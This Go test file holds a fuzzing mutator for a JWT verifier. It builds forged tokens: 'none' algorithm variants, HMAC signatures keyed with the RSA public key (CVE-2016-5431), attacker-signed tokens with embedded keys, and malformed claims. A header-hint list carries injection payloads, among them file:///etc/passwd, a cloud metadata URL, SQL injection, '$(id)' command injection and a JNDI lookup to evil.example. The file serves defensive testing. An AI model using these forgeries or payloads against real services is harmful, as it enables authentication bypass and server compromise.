package token_test

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"hash"
	"math"
	"strings"
	"sync"

	"github.com/golang-jwt/jwt/v5"

	"roster/shared/credential/token"
)

// forged returns a token from an attacker who does not have our keys: without a
// signature, with the signature of another token, or signed with another key.
func (m *mutator) forged() string {
	header := m.header.with("alg", m.algorithm())
	if m.IntN(2) == 0 {
		header = header.with(pick(m, "kid", "kid", "jku", "x5u", "jwk", "x5c", "x5t", "cty", "zip", "b64", "enc", "KID"), m.hint())
	}
	claims := m.claims()
	if m.IntN(3) == 0 {
		claims = claims.with("sub", "01939e6e-5a7c-4bd0-8f0e-3a1f5d0c9b43").with("ver", m.IntN(1000))
	}
	content := segment(m.t, header) + "." + segment(m.t, claims)
	switch m.IntN(4) {
	case 0:
		return content + "."
	case 1:
		return content + "." + pick(m, m.parts[2], encode([]byte("signature")), strings.Repeat("A", 43), "AA", content)
	case 2:
		return content + "." + encode(m.mac(content, pick(m, sha256.New, sha512.New384, sha512.New)))
	}
	return m.asymmetric(claims)
}

func (m *mutator) algorithm() any {
	return pick[any](m, m.header["alg"], m.header["alg"], "HS256", "none", "None", "NONE", "nOnE", "none\x00", " none", "", "hs256",
		"HS384", "HS512", "RS256", "PS256", "ES256", "EdDSA",
		"HS256,none", []string{"none"}, []string{"HS256"}, object{"alg": "HS256"}, 0, true, nil, absent{}, withCase(m.Uint32(), "none"),
		withCase(m.Uint32(), "hs256"))
}

// withCase makes a letter a capital if its bit is 1.
func withCase(bits uint32, s string) string {
	b := []byte(s)
	for i := range b {
		if bits>>i&1 == 1 {
			b[i] = strings.ToUpper(s)[i]
		}
	}
	return string(b)
}

// hint returns a header value that tells a careless verifier where to find the
// key.
func (m *mutator) hint() any {
	return pick[any](m, "../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", `C:\Windows\win.ini`,
		"https://evil.example/keys.json", "file:///etc/passwd",
		"http://169.254.169.254/latest/meta-data", "' UNION SELECT 'evil' --", `"; DROP TABLE users; --`, "$(id)", "|id",
		"${jndi:ldap://evil.example/x}", "", "\x00", "\u202e", "none",
		strings.Repeat("k", 10<<10), strings.Repeat("../", 1000), 0, -1, true, nil, object{"kty": "oct", "k": encode([]byte("evil"))},
		[]string{"AAAA"}, object{}, []any{})
}

// mac returns an HMAC with a key that an attacker may guess or choose.
func (m *mutator) mac(content string, of func() hash.Hash) []byte {
	key := pick(m, append(m.public, "", "\x00", "evil", "secret", "your_jwt_secret_key_here", issuer, audience, secret[1:], secret+"\n",
		strings.ToUpper(secret), encode([]byte(secret)), publicKey())...)
	h := hmac.New(of, []byte(key))
	h.Write([]byte(content))
	return h.Sum(nil)
}

type asymmetricKeys struct {
	rsa   *rsa.PrivateKey
	ecdsa *ecdsa.PrivateKey
}

// attackerKeys are made once, because generating an RSA key is slow.
var attackerKeys = sync.OnceValue(func() (k asymmetricKeys) {
	var err error
	if k.rsa, err = rsa.GenerateKey(rand.Reader, 2048); err != nil {
		panic(err)
	}
	if k.ecdsa, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader); err != nil {
		panic(err)
	}
	return k
})

// publicKey is an RSA public key in PEM. A service that expects RS256 may use it
// as the secret of HS256 by mistake (CVE-2016-5431).
var publicKey = sync.OnceValue(func() string {
	der, err := x509.MarshalPKIXPublicKey(attackerKeys().rsa.Public())
	if err != nil {
		panic(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
})

// asymmetric returns a token with a correct signature by the attacker's key,
// perhaps with its public key in the header. RSA is rare because it is slow.
func (m *mutator) asymmetric(claims object) string {
	method, key := jwt.SigningMethod(jwt.SigningMethodES256), any(attackerKeys().ecdsa)
	if m.IntN(50) == 0 {
		method, key = pick[jwt.SigningMethod](m, jwt.SigningMethodRS256, jwt.SigningMethodPS256), attackerKeys().rsa
	}
	tok := jwt.NewWithClaims(method, jwt.MapClaims(claims))
	tok.Header["typ"] = "at+jwt"
	if kid, ours := m.header["kid"]; ours && m.IntN(4) > 0 {
		tok.Header["kid"] = kid
	}
	if m.IntN(2) == 0 {
		tok.Header["jwk"] = object{
			"kty": "EC", "crv": "P-256", "x": encode(attackerKeys().ecdsa.X.Bytes()),
			"y": encode(attackerKeys().ecdsa.Y.Bytes()),
		}
	}
	raw, err := tok.SignedString(key)
	if err != nil {
		m.t.Fatal(err)
	}
	return raw
}

// claims returns the claims of the real token.
func (m *mutator) claims() (o object) {
	b, err := base64.RawURLEncoding.DecodeString(m.parts[1])
	if err == nil {
		err = json.Unmarshal(b, &o)
	}
	if err != nil {
		m.t.Fatal(err)
	}
	return o
}

// signedByUs returns a token that our key has signed, with contents that we
// never issue, as from another program that has the key.
func (m *mutator) signedByUs() string {
	header, claims := segment(m.t, m.header), m.claims()
	switch m.IntN(7) {
	case 0:
		header := pick(m, "typ", "crit")
		value := pick[any](m, "JWT", "jwt", "rt+jwt", "AT+JWT", []string{"at+jwt"}, []string{"exp"}, 1, true, object{})
		return m.sign(segment(m.t, m.header.with(header, value)), m.parts[1])
	case 1:
		return m.sign(segment(m.t, m.header.with("alg", m.otherAlgorithm())), m.parts[1])
	case 2:
		return m.sign(header, segment(m.t, claims.with("aud", m.audience())))
	case 3: // not an object at all, or damaged
		body := pick(m, "", "null", "[]", "{", "{}", `"`+subject+`"`, "0", strings.Repeat("[", 1000), `{"sub":`, "{}{}", "\x00")
		return m.sign(pick(m, header, encode([]byte(body))), encode([]byte(body)))
	case 4: // not for a shared secret, which ignores kid
		if m.header["kid"] != nil {
			kid := m.header["kid"].(string)
			other := pick(m, append(m.kids, "", " ", kid+" ", kid[1:], m.hint(), absent{}, nil)...)
			return m.sign(segment(m.t, m.header.with("kid", other)), m.parts[1])
		}
	}
	name := pick(m, "iss", "aud", "sub", "jti", "ver", "sid", "role", "exp", "nbf", "iat")
	return m.sign(header, segment(m.t, claims.with(name, m.invalidValue(name))))
}

// otherAlgorithm returns an alg that is not the key's own.
func (m *mutator) otherAlgorithm() any {
	for {
		alg := pick[any](m, "none", "nOnE", "HS256", "RS256", "ES256", "EdDSA", "PS256", "HS384", "HS512", "ES384", "RS512", "Ed25519",
			"", absent{}, nil, []string{"HS256"})
		if text, ok := alg.(string); !ok || text != m.header["alg"] {
			return alg
		}
	}
}

func (m *mutator) audience() any {
	return pick[any](m, []string{}, []string{""}, []any{nil}, []any{[]string{audience}}, []string{audience, audience},
		[]string{"billing", audience},
		[]any{audience, 1}, object{"0": audience}, "", "Roster", audience+" ", audience+"\x00", 0, nil, absent{})
}

// invalidValue returns a value that this claim never has in a valid token. Times
// are in seconds.
func (m *mutator) invalidValue(name string) any {
	at, far := now.Unix(), int64(6+m.IntN(1<<30))
	several := []any{absent{}, nil, true, false, object{}, []any{}, []any{nil}, object{"a": 1}, [][]int{{1}}, 1e300, -1e300}
	switch name {
	case "exp":
		several = append(several, at-far, at-5, at+int64(token.Lifetime.Seconds())+far, 0, -1, "1767605400", math.MaxInt64,
			uint64(math.MaxUint64))
	case "nbf", "iat":
		several = append(several, at-far, at+far, 0, -1, "1767605400", math.MaxInt64, uint64(math.MaxUint64))
	case "ver":
		several = append(several, 0, -1, -far, "7", 7.5, uint64(math.MaxUint64), int64(math.MaxInt64))
	case "sid":
		several = append(several, "", strings.ToUpper(session), session[1:], 7, []string{session})
	case "role":
		several = append(several, "", "user", "USER ", "USER,ADMIN", 0, []string{"ADMIN"})
	case "iss":
		several = append(several, "", 0, issuer+"/", issuer+"\x00", strings.ToUpper(issuer), "http://accounts.example.com",
			[]string{issuer}, "https://accounts.example.com.evil.example")
	default: // strings
		several = append(several, "", 0, 7, []string{subject})
	}
	return pick(m, several...)
}
